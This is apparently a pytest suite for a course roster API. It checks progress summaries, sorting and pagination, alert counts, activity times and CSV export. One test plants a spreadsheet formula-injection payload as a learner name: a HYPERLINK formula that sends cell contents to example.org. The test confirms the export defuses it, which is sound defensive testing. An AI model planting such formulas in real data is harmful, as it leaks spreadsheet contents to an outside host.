"""Rosters: how every learner of a course is, the same as each of them sees it, in any order and in few statements."""

from __future__ import annotations

import csv
import io
import random
from typing import Any

import httpx
import psycopg
import pytest
from gateway_stage import fields
from teaching_stage import COURSES, given_course, root, tess

from functions.shared.standing.mastery import level

pytestmark = pytest.mark.anyio

CLASS = [f"learner-{number:02}" for number in range(25)]
TOPICS = ("", "loops", "lists", "functions", "decorators")


async def given_class(db: psycopg.AsyncConnection, seed: int = 0) -> str:
    """Make it so that a course has learners who did all kinds of things, or nothing; return its id."""
    chance = random.Random(seed)
    course = await given_course(db, *CLASS)
    for learner in CLASS[1:]:
        zone = chance.choice(["UTC", "Etc/GMT-14", "Etc/GMT+12"])
        await db.execute("UPDATE users SET time_zone = %s WHERE id = %s", [zone, learner])
        days = chance.choice([[], [0], [1], [2], range(4), range(1, 40), [0, 1, 2, 4, 5], chance.sample(range(60), 20)])
        await db.execute(
            "INSERT INTO activity_days SELECT %s, (now() AT TIME ZONE %s)::date - ago FROM unnest(%s::integer[]) ago",
            [learner, zone, list(days)],
        )
        for topic in chance.sample(TOPICS, chance.randint(0, len(TOPICS))):
            exercises, answers, programs = (chance.randint(0, 6) for _ in range(3))
            sums = [exercises, chance.randint(0, 100 * exercises), answers, chance.randint(0, answers), programs,
                    chance.randint(0, 100 * programs)]  # fmt: skip
            await db.execute(
                "INSERT INTO progress (learner_id, topic, exercises, score_sum, answers, right_answers, programs,"
                " quality_sum, last_day) VALUES (%s, %s, %s, %s, %s, %s, %s, %s, current_date - %s)",
                [learner, topic, *sums, chance.choice([0, 20, 50, 100])],
            )
    return course


async def given_alert(db: psycopg.AsyncConnection, about: str, user: str = "tess", kind: str = "struggle") -> str:
    """Make it so that somebody is told of a learner, and return the alert's id."""
    cursor = await db.execute(
        "INSERT INTO alerts (id, user_id, about, kind, severity, title, message)"
        " VALUES (gen_random_uuid(), %s, %s, %s, 'warning', 'A title', '…') RETURNING id",
        [user, about, kind],
    )
    row = await cursor.fetchone()
    assert row is not None
    return str(row[0])


async def roster(client: httpx.AsyncClient, course: str, query: str = "?limit=100") -> list[dict[str, Any]]:
    """Return all learners of a course, page by page."""
    learners: list[dict[str, Any]] = []
    cursor = ""
    while True:
        response = await client.get(f"{COURSES}/{course}/learners{query}{cursor}", headers=tess())
        assert response.status_code == 200, response.text
        learners += response.json()["learners"]
        if response.json()["next"] is None:
            return learners
        cursor = f"&cursor={response.json()['next']}"


@pytest.mark.parametrize("seed", range(3))
async def test_a_roster_says_of_each_learner_what_their_own_progress_says(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection, seed: int
):
    course = await given_class(db, seed)

    for shown in await roster(guarded, course):
        own = (await guarded.get(f"/api/v1/progress/{shown['learner_id']}", headers=tess())).json()
        overall = own["overall"]
        weak = [
            (each["mastery"], each["topic"])
            for each in own["topics"]
            if each["level"] == "red" and sum(each[part]["data"] for part in ("exercises", "quizzes", "quality")) >= 3
        ]
        assert {name: shown[name] for name in ("mastery", "level", "certainty")} == {
            name: overall[name] for name in ("mastery", "level", "certainty")
        }, shown["learner_id"]
        assert shown["streak"] == own["streak"], shown["learner_id"]
        assert shown["struggling"] == [topic for _, topic in sorted(weak)][:5]


async def test_nobody_of_another_course_is_on_a_roster(guarded: httpx.AsyncClient, db: psycopg.AsyncConnection):
    course = await given_course(db, "ada", "bob")
    await given_course(db, "carla")

    assert [each["learner_id"] for each in await roster(guarded, course)] == ["ada", "bob"]
    assert await roster(guarded, await given_course(db)) == []


SORTINGS = {
    "name": lambda each: 0,
    "level": lambda each: ["red", "yellow", "green", "blue"].index(each["level"]),
    "mastery": lambda each: each["mastery"],
    "last_active": lambda each: each["last_active_at"] or "9",
    "open_alerts": lambda each: each["open_alerts"],
}


@pytest.mark.parametrize("by", SORTINGS)
@pytest.mark.parametrize("sign", ["", "-"])
async def test_pages_of_a_roster_hold_everybody_once_in_the_order_that_is_wished_for(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection, by: str, sign: str
):
    course = await given_class(db)
    for learner in CLASS[::3] * 2 + CLASS[::5]:
        await given_alert(db, learner)
    await db.execute("UPDATE users SET time_zone = 'UTC'")  # so that times compare as their texts
    if (by, sign) == ("name", "-"):
        assert fields(await guarded.get(f"{COURSES}/{course}/learners?sort=-name", headers=tess())) == ["query.sort"]
        return

    sorted_by = await roster(guarded, course, f"?limit=4&sort={sign}{by}")

    every = await roster(guarded, course)
    expected = sorted(every, key=SORTINGS[by], reverse=sign == "-")  # stable: those who are equal stay by their names
    if by == "last_active":
        expected.sort(key=lambda each: each["last_active_at"] is None)
    assert [each["learner_id"] for each in every] == CLASS
    assert [each["learner_id"] for each in sorted_by] == [each["learner_id"] for each in expected]
    assert len({SORTINGS[by](each) for each in every}) > (0 if by == "name" else 1)


async def test_learners_are_called_by_their_names_and_sorted_by_them(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection
):
    course = await given_course(db, "u-1", "u-2", "u-3")
    for user, username, name in (("u-1", "zoe@example.org", "carla Ö"), ("u-2", "ANNA", None)):
        await db.execute(
            "INSERT INTO accounts (user_id, username, name, password_hash) VALUES (%s, %s, %s, '')",
            [user, username, name],
        )

    assert [(each["learner_id"], each["name"]) for each in await roster(guarded, course, "?limit=1")] == [
        ("u-2", "ANNA"), ("u-1", "carla Ö"), ("u-3", None)
    ]  # fmt: skip


async def test_open_alerts_are_those_that_the_teacher_was_told_and_did_not_dismiss(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection
):
    course = await given_course(db, "ada", "bob")
    first = await given_alert(db, "ada")
    await given_alert(db, "ada")
    await given_alert(db, "ada", kind="progress")
    await given_course(db, teacher="theo")
    await given_alert(db, "bob", user="theo")
    await given_alert(db, "bob", user="bob")

    async def opened() -> list[int]:
        return [each["open_alerts"] for each in await roster(guarded, course)]

    assert await opened() == [2, 0]
    await guarded.post(f"/api/v1/notifications/{first}/dismiss", headers=tess())
    assert await opened() == [1, 0]
    shown = await guarded.get(f"{COURSES}/{course}/learners", headers=root())
    assert [each["open_alerts"] for each in shown.json()["learners"]] == [1, 0]


async def test_when_somebody_was_last_active_is_told_as_exactly_as_it_is_known(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection
):
    course = await given_course(db, "ada", "bob", "carla", "dora")
    await db.execute(
        "INSERT INTO requests (id, user_id, kind, body, body_hash, created_at)"
        " VALUES ('r', 'ada', 'question', '{}', '', '2026-03-20T12:34:56Z')"
    )
    await db.execute("UPDATE users SET time_zone = 'Etc/GMT-2' WHERE id = 'bob'")
    await db.execute(
        "INSERT INTO activity_days VALUES ('ada', '2026-03-20'), ('bob', '2026-03-20'), ('carla', current_date + 1)"
    )

    known = {each["learner_id"]: each["last_active_at"] for each in await roster(guarded, course)}

    assert known == {"ada": "2026-03-20T12:34:56Z", "bob": "2026-03-19T22:00:00Z", "carla": None, "dora": None}


async def test_a_roster_takes_as_many_statements_for_many_as_for_one(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection, monkeypatch: pytest.MonkeyPatch
):
    one, many = await given_course(db, "ada"), await given_class(db)
    executed: list[str] = []
    execute = psycopg.AsyncCursor.execute

    async def counted(self: Any, query: Any, *rest: Any, **options: Any) -> Any:
        executed.append(str(query))
        return await execute(self, query, *rest, **options)

    monkeypatch.setattr(psycopg.AsyncCursor, "execute", counted)
    taken = []
    for course in (one, many):
        for path in ("learners?limit=100", "learners.csv"):
            executed.clear()
            assert (await guarded.get(f"{COURSES}/{course}/{path}", headers=tess())).status_code == 200
            taken.append(len([each for each in executed if "SELECT" in each]))

    assert taken == [3, 3, 3, 3]


async def test_a_roster_is_downloaded_as_csv(guarded: httpx.AsyncClient, db: psycopg.AsyncConnection):
    course = await given_class(db)

    response = await guarded.get(f"{COURSES}/{course}/learners.csv", headers=tess())

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="learners.csv"'
    rows = list(csv.DictReader(io.StringIO(response.text)))
    shown = await roster(guarded, course)
    assert [row["learner_id"] for row in rows] == CLASS
    for row, entry in zip(rows, shown, strict=True):
        assert row == {
            **{name: "" if value is None else str(value) for name, value in entry.items()},
            "struggling": "; ".join(entry["struggling"]),
        }
        assert entry["level"] == level(entry["mastery"])


async def test_no_name_is_run_by_a_spreadsheet(guarded: httpx.AsyncClient, db: psycopg.AsyncConnection):
    formula = '=HYPERLINK("https://example.org/?"&A1,"Ada, ""the"" first")'
    course = await given_course(db, "-ada", "bob")
    for user, name in (("-ada", formula), ("bob", "+1\nnew line")):
        await db.execute(
            "INSERT INTO accounts (user_id, username, name, password_hash) VALUES (%s, %s, %s, '')", [user, user, name]
        )

    response = await guarded.get(f"{COURSES}/{course}/learners.csv", headers=tess())

    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [(row["learner_id"], row["name"]) for row in rows] == [("bob", "'+1\nnew line"), ("'-ada", f"'{formula}")]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("sort=wealth", "query.sort"),
        ("limit=0", "query.limit"),
        ("limit=101", "query.limit"),
        ("cursor=x", "query.cursor"),
        ("cursor=WzEsMiwzXQ", "query.cursor"),
        (f"cursor={'x' * 3000}", "query.cursor"),
    ],
)
async def test_what_no_roster_can_be_shown_by_is_refused(
    guarded: httpx.AsyncClient, db: psycopg.AsyncConnection, query: str, field: str
):
    course = await given_course(db, "ada")

    assert fields(await guarded.get(f"{COURSES}/{course}/learners?{query}", headers=tess())) == [field]
